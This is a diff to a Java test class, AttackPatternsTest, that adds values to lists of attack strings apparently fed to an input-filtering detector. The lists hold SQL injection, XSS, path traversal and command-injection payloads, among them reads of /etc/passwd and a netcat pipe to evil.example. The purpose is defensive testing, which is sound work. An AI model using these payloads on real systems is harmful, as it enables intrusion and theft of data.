@@ -83,7 +83,11 @@ class AttackPatternsTest {
                 "x ${ifs} y", "cmd /c dir", "() { :; }; echo", "a{b;c}", "$(whoami)", "sleep;5", "x || ping -c 1 host",
                 "text/html;charset=utf-8", "javascript:void(0)", "o'reilly; drop", "\"a\";\"b\"",
                 "/users/7/profile?sort=order", "a=b or", "x=1 and", "1 or\t1=1", "1 AND\n2=2", "x into outfile '/tmp/x'",
-                "1 into dumpfile '/tmp/y'", "load_file('/etc/hosts')", "mobile=1 order=2"));
+                "1 into dumpfile '/tmp/y'", "load_file('/etc/hosts')", "mobile=1 order=2",
+                // values of letters, digits and - _ . , @ + only: the words that let them through
+                "@@version", "1 and @@version", "exec xp_cmdshell", "x from sqlite_master", "1 into outfile x",
+                "1 INTO DUMPFILE x", "information_schema", "1 UNION ALL SELECT 2", "document.cookie", "document . cookie",
+                "C boot.ini", "win.ini", "powershell -enc abc", "..", ".. ..", "sleep 5", "waitfor delay", "a or 1", "a and b"));
         values.addAll(List.of("' or 1=1--", "admin'--", "1;--", "1; DROP TABLE users", "1 union/**/select 1",
                 "%27%20OR%201%3D1--", "<svg/onload=alert(1)>", "..%2f..%2fboot.ini", "....//....//etc/passwd",
                 "x;cat /etc/passwd", "127.0.0.1 | id", "a && whoami", "`id`", "x | nc evil.example 4444",
